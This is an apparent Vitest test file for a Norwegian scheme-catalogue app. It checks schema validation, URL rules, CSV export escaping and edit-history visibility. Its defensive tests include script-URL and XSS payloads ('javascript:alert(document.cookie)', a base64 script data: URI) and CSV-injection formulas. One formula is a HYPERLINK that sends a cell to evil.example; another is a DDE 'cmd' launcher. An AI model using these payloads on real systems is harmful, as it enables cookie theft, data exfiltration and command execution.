/**
 * Editing a scheme in the app: the same checks as the catalogue files (unknown properties, web
 * addresses), what the CSV export makes of hostile text, and who sees the editors in the history.
 */
import type { FastifyInstance } from 'fastify';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Scheme } from '@varde/contracts/schemes';
import type { SchemeDetail } from '@varde/contracts/finder-api';
import type { SchemeVersion } from '@varde/contracts/catalogue-api';
import { selectRows } from '@varde/db';
import { createTestDatabase, type TestDatabase } from '@varde/test-support/database';
import { addMember, createTestApp, createUser, municipalityOrganisation, signIn, type Client } from '../../test/factories';

let database: TestDatabase;
let app: FastifyInstance;
let admin: Client;
let member: Client;

beforeAll(async () => {
  database = await createTestDatabase();
  app = await createTestApp(database);
  admin = await signIn(app, (await createUser(database.db, { name: 'Pia Plattform', isPlatformAdmin: true })).email);
  const tydal = (await municipalityOrganisation(database.db, '5033')).id;
  const memberUser = await createUser(database.db, { name: 'Tora Tydal' });
  await addMember(database.db, tydal, memberUser.id);
  member = await signIn(app, memberUser.email);
});

afterAll(async () => {
  await app?.close();
  await database?.close();
});

const detailOf = async (id: string) => (await app.inject({ url: `/api/schemes/${id}` })).json() as SchemeDetail;
const save = (id: string, scheme: unknown, baseVersion: number, lang = 'nb') =>
  app.inject({ method: 'PUT', url: `/api/schemes/${id}?lang=${lang}`, headers: admin.headers, payload: { scheme, baseVersion, comment: 'Test' } });
type Fields = { path: string; code: string; message: string }[];

describe('saving a scheme in the app', () => {
  it('refuses properties the Scheme schema does not know, as the catalogue files do, and stores nothing', async () => {
    const before = await detailOf('stimulab');
    const scheme = structuredClone(before.scheme) as Scheme & Record<string, unknown>;
    scheme.extra = 'lagres ikke';
    (scheme.funding as unknown as Record<string, unknown>).maxGrantNOK = 1_000_000;
    (scheme.calls[0] as unknown as Record<string, unknown>).link = 'https://example.org';

    const response = await save('stimulab', scheme, before.version);
    expect(response.statusCode, response.body).toBe(400);
    const fields = response.json().error.fields as Fields;
    expect(fields).toEqual([
      { path: 'scheme.funding.maxGrantNOK', code: 'unknown_property', message: '«maxGrantNOK» er ikke et felt i en ordning. Er navnet feilstavet?' },
      { path: 'scheme.calls.0.link', code: 'unknown_property', message: '«link» er ikke et felt i en ordning. Er navnet feilstavet?' },
      { path: 'scheme.extra', code: 'unknown_property', message: '«extra» er ikke et felt i en ordning. Er navnet feilstavet?' },
    ]);
    const english = await save('stimulab', scheme, before.version, 'en');
    expect((english.json().error.fields as Fields)[0]!.message).toBe('“maxGrantNOK” is not a field of a scheme. Is the name misspelt?');

    const after = await detailOf('stimulab');
    expect(after.version).toBe(before.version);
    const [stored] = await selectRows<{ data: Record<string, unknown> }>(database.db, sql`select data from schemes where id = 'stimulab'`);
    expect(stored!.data).not.toHaveProperty('extra');

    // The same document without the unknown properties is saved.
    delete scheme.extra;
    delete (scheme.funding as unknown as Record<string, unknown>).maxGrantNOK;
    delete (scheme.calls[0] as unknown as Record<string, unknown>).link;
    expect((await save('stimulab', scheme, before.version)).statusCode).toBe(200);
  });

  it('accepts only https: addresses on public hosts in the scheme, its owner and its sources', async () => {
    const before = await detailOf('klimasats');
    const scheme = structuredClone(before.scheme);
    scheme.url = 'javascript:alert(document.cookie)';
    // Valid URIs (so the schema's `uri` format lets them through), but not web addresses.
    scheme.owner.url = 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';
    scheme.sources[0]!.url = 'vbscript:msgbox(1)';
    const response = await save('klimasats', scheme, before.version);
    expect(response.statusCode, response.body).toBe(400);
    expect(response.json().error.fields as Fields).toEqual([
      { path: 'scheme.owner.url', code: 'invalid_url', message: 'Nettadresse må begynne med https:// eller http://.' },
      { path: 'scheme.url', code: 'invalid_url', message: 'Nettadresse må begynne med https:// eller http://.' },
      { path: 'scheme.sources.0.url', code: 'invalid_url', message: 'Nettadresse må begynne med https:// eller http://.' },
    ]);
    expect((await detailOf('klimasats')).scheme.url).toBe(before.scheme.url);

    // http: is refused too, and so is a staging or test copy of an owner's site.
    scheme.url = 'http://example.org/klimasats';
    scheme.owner.url = null;
    scheme.sources[0]!.url = 'https://helsedirektoratet-helsenett-xpqa.enonic.cloud/tilskudd/klimasats';
    const insecure = await save('klimasats', scheme, before.version);
    expect(insecure.statusCode, insecure.body).toBe(400);
    expect(insecure.json().error.fields as Fields).toEqual([
      { path: 'scheme.url', code: 'https_required', message: 'Nettadresse må begynne med https://. Varde tar bare imot sikre nettadresser.' },
      {
        path: 'scheme.sources.0.url',
        code: 'denied_host',
        message: 'Nettadresse peker til en test- eller arbeidsversjon av nettstedet. Bruk adressen til den offentlige siden.',
      },
    ]);

    scheme.url = 'https://example.org/klimasats';
    scheme.sources[0]!.url = before.scheme.sources[0]!.url;
    const ok = await save('klimasats', scheme, before.version);
    expect(ok.statusCode, ok.body).toBe(200);
    expect((ok.json() as SchemeDetail).scheme.url).toBe('https://example.org/klimasats');
  });

  it("refuses a source checked on a day after today's, and takes one that has passed", async () => {
    const before = await detailOf('stimulab');
    const scheme = structuredClone(before.scheme);
    const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
    // Two days ahead is after today in Oslo whatever the time of day.
    scheme.sources[0]!.checkedAt = day(2);
    const response = await save('stimulab', scheme, before.version);
    expect(response.statusCode, response.body).toBe(400);
    expect(response.json().error.fields as Fields).toEqual([
      { path: 'scheme.sources.0.checkedAt', code: 'in_future', message: 'Sist kontrollert kan ikke være en dag som ikke har vært ennå.' },
    ]);
    scheme.sources[0]!.checkedAt = day(-1);
    const ok = await save('stimulab', scheme, before.version);
    expect(ok.statusCode, ok.body).toBe(200);
  });
});

describe('the CSV export of text someone typed in', () => {
  it('keeps formulas from running in a spreadsheet, in both files, and leaves numbers as numbers', async () => {
    const before = await detailOf('prosjektskjonn');
    const scheme = structuredClone(before.scheme);
    scheme.name.nb = '=HYPERLINK("https://evil.example/?"&A1;"Klikk")';
    const formula = "@SUM(1+1)*cmd|' /C calc'!A0";
    // A new owner id, so the name is its own (one owner id carries the same names everywhere).
    scheme.owner = { id: 'formel-eier', name: { nb: formula, nn: formula, en: formula }, url: null };
    scheme.calls[0]!.title.nb = '-2+3';
    scheme.calls[1] && (scheme.calls[1].title.nb = '+1');
    const saved = await save('prosjektskjonn', scheme, before.version);
    expect(saved.statusCode, saved.body).toBe(200);

    const schemesCsv = (await app.inject({ url: '/api/export/schemes.csv' })).body;
    const row = (parse(schemesCsv, { columns: true }) as Record<string, string>[]).find((r) => r.id === 'prosjektskjonn')!;
    expect(row.name_nb).toBe(`'${scheme.name.nb}`);
    expect(row.owner_name).toBe(`'${formula}`);
    expect(row.owner_id).toBe('formel-eier');
    expect(schemesCsv).toContain('"\'=HYPERLINK(""https://evil.example/?""&A1;""Klikk"")"');
    // Every text cell is quoted; numbers are not, so a spreadsheet still reads them as numbers.
    const line = schemesCsv.split('\n').find((l) => l.startsWith('"prosjektskjonn"'))!;
    expect(line).toMatch(/^"prosjektskjonn",/);
    expect(line).toMatch(new RegExp(`,${before.version + 1}$`));

    const calls = (parse((await app.inject({ url: '/api/export/calls.csv' })).body, { columns: true }) as Record<string, string>[]).filter(
      (c) => c.scheme_id === 'prosjektskjonn',
    );
    expect(calls.find((c) => c.call_id === scheme.calls[0]!.id)!.title).toBe("'-2+3");
    for (const c of calls) expect(c.title, c.call_id).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('the change history', () => {
  it('is open to everyone, with the editor named to signed-in users only', async () => {
    const before = await detailOf('digifin');
    const scheme = { ...before.scheme, summary: { ...before.scheme.summary, nb: `${before.scheme.summary.nb} Endret.` } };
    expect((await save('digifin', scheme, before.version)).statusCode).toBe(200);

    const anonymous = await app.inject({ url: '/api/schemes/digifin/versions' });
    expect(anonymous.statusCode, anonymous.body).toBe(200);
    const open = anonymous.json().items as SchemeVersion[];
    expect(open[0]).toMatchObject({ version: before.version + 1, changedBy: { name: null }, comment: 'Test', changedFields: ['summary'] });
    // The long text's old and new wording, for the history's "see the texts".
    expect(open[0]!.changes).toEqual([{ code: 'summary', from: before.scheme.summary, to: scheme.summary }]);
    expect(open.at(-1)).toMatchObject({ version: 1, changedBy: null });
    expect(anonymous.body).not.toContain('Pia Plattform');

    const signedIn = (await app.inject({ url: '/api/schemes/digifin/versions', headers: member.headers })).json().items as SchemeVersion[];
    expect(signedIn[0]).toMatchObject({ version: before.version + 1, changedBy: { name: 'Pia Plattform' } });
    expect(signedIn.at(-1)).toMatchObject({ version: 1, changedBy: null });
  });
});
